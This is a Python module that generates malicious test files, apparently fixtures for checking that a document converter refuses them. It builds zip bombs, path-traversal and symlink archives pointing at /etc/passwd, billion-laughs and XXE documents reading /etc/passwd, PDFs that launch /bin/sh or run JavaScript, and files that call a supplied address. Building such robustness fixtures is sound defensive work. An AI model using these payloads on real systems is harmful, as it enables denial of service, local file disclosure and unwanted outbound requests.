"""Files made to hurt whoever reads them, built here by code: each small, each large once it is unpacked or followed."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable

MB = 1024 * 1024
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>'
)
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
    '<Relationship Id="r1" Target="{}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def zipped(files: Iterable[tuple[str | zipfile.ZipInfo, bytes | str]], *, level: int = 9) -> bytes:
    """A zip of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return out.getvalue()


def docx(document: bytes | str, more: Iterable[tuple[str, bytes | str]] = (), rels: str = "") -> bytes:
    """A Word file around this body part."""
    files: list[tuple[str | zipfile.ZipInfo, bytes | str]] = [
        ("[Content_Types].xml", _TYPES),
        ("_rels/.rels", _RELS.format(rels, "word/document.xml")),
        ("word/document.xml", document),
    ]
    return zipped([*files, *more])


def body(inner: str, head: str = "") -> str:
    """A body part."""
    return f'<?xml version="1.0"?>{head}<w:document {_W}><w:body>{inner}</w:body></w:document>'


def paragraph(text: str) -> str:
    """One paragraph of a body."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def pdf(objects: Iterable[bytes], root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a right cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, data in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, data))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(offsets) + 1, root, start))
    return out.getvalue()


def stream(data: bytes, entries: bytes = b"", times: int = 1) -> bytes:
    """A stream object, deflated `times` over."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    filters = b"/FlateDecode " * times
    return b"<<%b/Filter[%b]/Length %d>>stream\n%b\nendstream" % (entries, filters, len(data), data)


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def one_page(
    content: bytes, *, box: bytes = b"[0 0 612 792]", more: tuple[bytes, ...] = (), names: bytes = b""
) -> bytes:
    """A PDF of one page: objects 1 to 5, and `more` from 6 on; `names` are further resources."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox%b/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%b>>>>" % (box, names)
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages, page, content, _FONT, *more])


# Zip archives that lie or overflow.


def ratio() -> bytes:
    """One part of 300 MB in 300 kB."""
    return docx(body(paragraph("x")), [("word/media/a.xml", bytes(300 * MB))])


def zip64() -> bytes:
    """An entry that says, in its ZIP64 field, that it unpacks to a tebibyte."""
    data = bytearray(docx(body(paragraph("x")), [("word/big.xml", bytes(1000))]))
    at = data.rfind(b"word/big.xml")  # in the central directory
    head = at - 46
    extra = struct.pack("<HHQ", 1, 8, 1 << 40)
    size_of_extra = struct.unpack_from("<H", data, head + 30)[0]
    struct.pack_into("<L", data, head + 24, 0xFFFFFFFF)
    struct.pack_into("<H", data, head + 30, size_of_extra + len(extra))
    data[at + 12 : at + 12] = extra
    end = data.rfind(b"PK\5\6")
    struct.pack_into("<L", data, end + 12, struct.unpack_from("<L", data, end + 12)[0] + len(extra))
    return bytes(data)


def understated() -> bytes:
    """The body says that it has 100 bytes, and unpacks to 50 MB."""
    data = bytearray(docx(body(paragraph("x" * (50 * MB)))))
    at = data.rfind(b"word/document.xml")
    struct.pack_into("<L", data, at - 46 + 24, 100)
    return bytes(data)


def overlapping() -> bytes:
    """Nine thousand entries that all unpack the same megabyte (D. Fifield, "A better zip bomb", 2019)."""
    data = docx(body(paragraph("x")), [("word/aaaa.xml", bytes(MB))])
    end = data.rfind(b"PK\5\6")
    at = data.rfind(b"word/aaaa.xml") - 46
    entry = data[at:end]
    start = struct.unpack_from("<L", data, end + 16)[0]
    names = (b"%04x" % n for n in range(9000))
    more = b"".join(entry.replace(b"aaaa", name) for name in names)
    tail = bytearray(data[end:])
    count = struct.unpack_from("<H", tail, 8)[0] + 9000
    struct.pack_into("<HHL", tail, 8, count, count, end - start + len(more))
    return data[:end] + more + bytes(tail)


def many_entries() -> bytes:
    """20,000 empty parts."""
    return docx(body(paragraph("x")), ((f"word/{n}.xml", b"") for n in range(20_000)))


def nested_zips(depth: int = 6) -> bytes:
    """Zips in zips."""
    data = zipped([("innermost.txt", "The innermost text.")])
    for level in range(depth):
        data = zipped([(f"level{level}.zip", data)])
    return data


def climbing_zip() -> bytes:
    """Members that want to lie elsewhere, and a link to somewhere else."""
    link = zipfile.ZipInfo("link.txt")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    names = ("../../../escaped.txt", "/tmp/escaped-absolute.txt", "..\\..\\escaped-dos.txt", "C:\\escaped-drive.txt")
    return zipped([*((name, f"Text of {n}.") for n, name in enumerate(names)), (link, "/etc/passwd")])


def many_members() -> bytes:
    """3,000 small texts."""
    return zipped((f"{n}.txt", f"Text {n}.") for n in range(3000))


def zip_ratio() -> bytes:
    """A text of 300 MB."""
    return zipped([("a.txt", b"a" * (300 * MB))])


# XML.


def laughs() -> bytes:
    """A billion laughs."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(body(paragraph("&l9;"), f'<!DOCTYPE d [<!ENTITY l0 "ha">{entities}]>'))


def quadratic() -> bytes:
    """One long entity, named again and again."""
    return docx(body(paragraph("&a;" * 50_000), f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>'))


def external_entity(url: str) -> bytes:
    """An entity that is somebody else's file, and one that is a page."""
    declared = f'<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY page SYSTEM "{url}/entity">'
    text = paragraph("Plain words.") + paragraph("&file;") + paragraph("&page;")
    return docx(body(text, f'<!DOCTYPE d SYSTEM "{url}/dtd" [{declared}]>'))


def deep_docx() -> bytes:
    """40,000 elements in each other, each with a number, lest the archive be refused for its ratio."""
    opened = "".join(f'<w:sdt w:n="{n * 7919 % 20_011}"><w:sdtContent>' for n in range(20_000))
    return docx(body(opened + paragraph("deep") + "</w:sdtContent></w:sdt>" * 20_000))


def nested_tables() -> bytes:
    """80 tables in each other, ten cells a row."""
    inner = paragraph("cell")
    for _ in range(80):
        inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc>{'<w:tc><w:p/></w:tc>' * 9}</w:tr></w:tbl>"
    return docx(body(inner))


def shared_strings() -> bytes:
    """A string of 32,000 characters that 400,000 cells name: 12 GB of text in some hundred kilobytes."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = "".join(f'<row r="{r}">' + '<c t="s"><v>0</v></c>' * 100 + "</row>" for r in range(1, 4001))
    content = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    inner = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{relations}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    sheet = '<sheet name="S" sheetId="1" r:id="r1"/>'
    return zipped(
        [
            ("[Content_Types].xml", content),
            ("_rels/.rels", _RELS.format("", "xl/workbook.xml")),
            ("xl/workbook.xml", f'<workbook {ns} xmlns:r="{relations}"><sheets>{sheet}</sheets></workbook>'),
            ("xl/_rels/workbook.xml.rels", inner),
            ("xl/sharedStrings.xml", f"<sst {ns}><si><t>{'word ' * 6400}</t></si></sst>"),
            ("xl/worksheets/sheet1.xml", f"<worksheet {ns}><sheetData>{rows}</sheetData></worksheet>"),
        ]
    )


def calling_docx(url: str) -> bytes:
    """A remote template, a linked picture and a link."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = "".join(
        f'<Relationship Id="x{n}" TargetMode="External" Target="{url}/{what}" Type="{kind}/{what}"/>'
        for n, what in enumerate(("attachedTemplate", "image", "hyperlink", "oleObject"))
    )
    part = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>'
    return docx(body(paragraph("It calls home.")), [("word/_rels/document.xml.rels", part)], rels)


# PDF.


def inflating(size: int = 400 * MB) -> bytes:
    """A page whose content is a line of text, over and over."""
    line = b"BT /F 9 Tf 10 10 Td (all work and no play) Tj ET\n"
    return one_page(stream(line * (size // len(line))))


def filters() -> bytes:
    """200 MB of blanks behind four filters: under a kilobyte."""
    return one_page(stream(b" " * (200 * MB), times=4))


def hundred_thousand_pages() -> bytes:
    """As many page objects."""
    kids = b" ".join(b"%d 0 R" % n for n in range(4, 100_004))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 3 0 R>>"
    first = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%b]/Count 100000>>" % kids, stream(b" ")]
    return pdf([*first, *[page] * 100_000])


def claimed_pages() -> bytes:
    """One page that says it is two thousand millions."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", page])


def page_loop() -> bytes:
    """A page tree that holds itself."""
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 4>>"])


def form_loop() -> bytes:
    """A form that draws itself ten times."""
    form = stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return one_page(stream(b"/X Do"), more=(form,), names=b"/XObject<</X 6 0 R>>")


def form_tree() -> bytes:
    """Twelve forms, each of which draws the next ten times."""
    forms = []
    for n in range(12):
        inner = b"/X Do " * 10 if n < 11 else b"BT /F 9 Tf (x) Tj ET"
        resources = b"/XObject<</X %d 0 R>>/Font<</F 5 0 R>>" % (7 + n)
        forms.append(stream(inner, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<<%b>>" % resources))
    return one_page(stream(b"/X Do"), more=tuple(forms), names=b"/XObject<</X 6 0 R>>")


def huge_image() -> bytes:
    """A picture of 60,000 by 60,000 dots: 3.6 GB of grey."""
    entries = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8"
    image = stream(bytes(64 * MB), entries, times=2)
    return one_page(stream(b"600 0 0 700 0 0 cm /I Do"), more=(image,), names=b"/XObject<</I 6 0 R>>")


def huge_page() -> bytes:
    """A page as large as a country."""
    return one_page(stream(b"BT /F 9 Tf 10 10 Td (a small text) Tj ET"), box=b"[0 0 2000000000 2000000000]")


def calling_pdf(url: str) -> bytes:
    """Actions at opening: a script, a launched program, a form that is sent, a file elsewhere."""
    address = url.encode()
    script = b"<</S/JavaScript/JS(app.launchURL\\('%b/js'\\); this.submitForm\\('%b/form'\\))>>" % (address, address)
    chain = b"<</S/Launch/F(/bin/sh)/Next<</S/URI/URI(%b/uri)/Next<</S/SubmitForm/F(%b/submit)>>>>>>"
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction %b/AA<</WC %b>>>>" % (script, chain % (address, address))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return pdf([catalog, pages, page, stream(b"BT /F 9 Tf (It calls home.) Tj ET"), _FONT])


# Text, Markdown, HTML, mail.


def marks() -> bytes:
    """A letter under 400,000 marks in the wrong order: putting them in order is quadratic."""
    return ("a" + "\u0301\u0327" * 200_000).encode()


def paragraphs() -> bytes:
    """1.5 million of them: what is known of the text is a hundred times its size."""
    return b"a\n\n" * 1_500_000


def long_text() -> bytes:
    """17 million characters."""
    return b"word " * 3_400_000


def one_word() -> bytes:
    """Four million letters without a space."""
    return b"a" * 4_000_000


def quotes() -> bytes:
    """Quotes in quotes."""
    return b">" * 50_000 + b" deep"


def brackets() -> bytes:
    """Links that are never closed."""
    return b"[" * 50_000 + b"a" + b"](" * 50_000


def emphasis() -> bytes:
    """Emphasis that is never closed."""
    return b"*a **b " * 30_000 + b"`" * 20_001


def lists() -> bytes:
    """Lists in lists."""
    return b"\n".join(b" " * (2 * n) + b"- item" for n in range(1500))


def deep_html() -> bytes:
    """100,000 elements in each other."""
    return b"<html><body>" + b"<div>" * 100_000 + b"deep" + b"</div>" * 100_000


def deep_table_html() -> bytes:
    """2,000 tables in each other."""
    return b"<html><body>" + b"<table><tr><td>" * 2000 + b"deep" + b"</td></tr></table>" * 2000


def calling_html(url: str) -> bytes:
    """Everything that a browser would fetch."""
    tags = (
        '<link rel="stylesheet" href="{0}/css">',
        '<script src="{0}/js"></script>',
        '<img src="{0}/img">',
        '<iframe src="{0}/frame"></iframe>',
        '<meta http-equiv="refresh" content="0;url={0}/refresh">',
        '<object data="{0}/object"></object>',
    )
    return f"<html><body>{''.join(tags).format(url)}<p>It calls home.</p></body></html>".encode()


def deep_mail() -> bytes:
    """300 messages in each other."""
    head = b"From: a@example.org\r\nSubject: deep\r\nContent-Type: message/rfc822\r\n\r\n"
    return head * 300 + b"From: a@example.org\r\nSubject: deepest\r\n\r\nThe deepest text.\r\n"


def deep_json() -> bytes:
    """100,000 lists in each other."""
    return b"[" * 100_000 + b"]" * 100_000


def wide_csv() -> bytes:
    """A million columns."""
    return b",".join(b"c%d" % n for n in range(1_000_000))


Maker = Callable[[], bytes]
Caller = Callable[[str], bytes]

FAST: dict[str, Maker] = {
    "zip64.docx": zip64,
    "overlapping.docx": overlapping,
    "many_entries.docx": many_entries,
    "laughs.docx": laughs,
    "quadratic.docx": quadratic,
    "deep.docx": deep_docx,
    "nested_tables.docx": nested_tables,
    "nested.zip": nested_zips,
    "climbing.zip": climbing_zip,
    "claimed_pages.pdf": claimed_pages,
    "page_loop.pdf": page_loop,
    "huge_page.pdf": huge_page,
    "long.txt": long_text,
    "quotes.md": quotes,
    "brackets.md": brackets,
    "lists.md": lists,
    "deep.html": deep_html,
    "deep_table.html": deep_table_html,
    "deep.eml": deep_mail,
    "deep.json": deep_json,
}
"""A second or less each, to make and to refuse."""

SLOW: dict[str, Maker] = {
    "ratio.docx": ratio,
    "understated.docx": understated,
    "ratio.zip": zip_ratio,
    "many_members.zip": many_members,
    "shared_strings.xlsx": shared_strings,
    "inflating.pdf": inflating,
    "filters.pdf": filters,
    "pages.pdf": hundred_thousand_pages,
    "form_loop.pdf": form_loop,
    "form_tree.pdf": form_tree,
    "huge_image.pdf": huge_image,
    "marks.txt": marks,
    "paragraphs.txt": paragraphs,
    "one_word.txt": one_word,
    "emphasis.md": emphasis,
    "wide.csv": wide_csv,
}
"""These run into a limit, or are long to make."""

CALLING: dict[str, Caller] = {
    "entity.docx": external_entity,
    "template.docx": calling_docx,
    "actions.pdf": calling_pdf,
    "page.html": calling_html,
}
"""Made with an address, which nobody may ask."""
